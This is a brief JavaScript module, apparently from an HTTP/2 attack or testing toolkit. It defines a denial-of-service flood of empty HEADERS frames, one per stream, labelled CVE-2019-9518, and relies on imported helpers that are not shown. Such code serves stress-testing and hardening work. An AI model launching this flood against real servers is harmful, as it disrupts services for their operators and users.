import * as wire from '../http2/wire.js';
import { resetFlood } from './reset-flood.js';

/** CVE-2019-9518: header sections without a field, each on a stream of its own. */
export const attack = resetFlood('empty HEADERS flood', (id) => wire.frame(wire.HEADERS, wire.END_HEADERS, id));
